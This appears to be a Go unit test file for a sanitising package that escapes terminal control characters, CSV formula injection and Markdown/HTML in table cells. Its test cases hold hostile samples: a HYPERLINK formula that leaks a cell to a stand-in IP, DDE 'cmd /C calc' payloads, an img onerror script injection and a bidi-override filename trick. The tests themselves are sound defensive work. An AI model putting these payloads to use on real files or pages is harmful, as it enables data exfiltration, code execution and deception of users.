package textsafe

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestTextEscapesWhatATerminalWouldInterpret(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text is unchanged", "incoming/patients.csv", "incoming/patients.csv"},
		{"non-ASCII letters are unchanged", "données/Zürich.csv", "données/Zürich.csv"},
		{"an ANSI escape sequence is shown, not run", "a\x1b[2J\x1b[31mb", `a\x1b[2J\x1b[31mb`},
		{"a newline cannot forge a report line", "x\n2026-11-28T10:00:00Z  ok", `x\n2026-11-28T10:00:00Z  ok`},
		{"a carriage return cannot overwrite the line", "evil\rgood", `evil\rgood`},
		{"a tab cannot shift table columns", "a\tb", `a\tb`},
		{"DEL and the 8-bit CSI are escaped", "a\x7fb\u009b", `a\x7fb\u009b`},
		{"a bidirectional override is shown", "report\u202egnp.exe", `report\u202egnp.exe`},
		{"invalid UTF-8 is escaped byte by byte", "a\xffb", `a\xffb`},
		{"a backslash is doubled so that an escape cannot be forged", `a\x1bb`, `a\\x1bb`},
		{"the empty string stays empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, Text(tt.in))
		})
	}
}

func TestCSVCellNeutralisesFormulas(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"an equals sign", `=HYPERLINK("http://203.0.113.9/?"&A1,"open")`, `'=HYPERLINK("http://203.0.113.9/?"&A1,"open")`},
		{"a plus sign", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"a minus sign", "-2+3", "'-2+3"},
		{"an at sign", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"a leading tab", "\t=1+1", `'\t=1+1`},
		{"a leading carriage return", "\r=1+1", `'\r=1+1`},
		{"a leading NUL", "\x00=1", `'\x00=1`},
		{"a formula behind spaces", "  =1+1", "'  =1+1"},
		{"a formula character later in the value is harmless", "incoming/a=b.csv", "incoming/a=b.csv"},
		{"control characters are escaped too", "k\x1b]8;;http://x\x07", `k\x1b]8;;http://x\x07`},
		{"an ARN is unchanged", "arn:aws:iam::111122223333:user/mallory", "arn:aws:iam::111122223333:user/mallory"},
		{"the empty string stays empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, CSVCell(tt.in))
		})
	}
}

func TestCSVCellSurvivesCSVQuoting(t *testing.T) {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	require.NoError(t, w.Write([]string{CSVCell(`=cmd|"/c calc"!A1,x`), CSVCell("a\nb")}))
	w.Flush()
	require.NoError(t, w.Error())
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, [][]string{{`'=cmd|"/c calc"!A1,x`, `a\nb`}}, rows, "one row, two cells, no formula, no raw newline")
}

func TestMarkdownCellRendersAsText(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text is unchanged", "incoming/patients.csv", "incoming/patients.csv"},
		{"a pipe cannot open a table cell", "a|b", `a\|b`},
		{"raw HTML is not rendered", `<img src=x onerror=alert(1)>`, `\<img src=x onerror=alert(1)\>`},
		{"a link is not rendered", "[click](http://203.0.113.9)", `\[click\](http://203.0.113.9)`},
		{"emphasis and code are not rendered", "*a* _b_ `c` ~d~", "\\*a\\* \\_b\\_ \\`c\\` \\~d\\~"},
		{"an entity is not decoded", "&lt;", `\&lt;`},
		{"a newline cannot end the row", "a\n| forged | row |", `a\\n\| forged \| row \|`},
		{"an escape sequence is shown", "a\x1b[31m", `a\\x1b\[31m`},
		{"the empty cell keeps a space", "", " "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, MarkdownCell(tt.in))
		})
	}
}
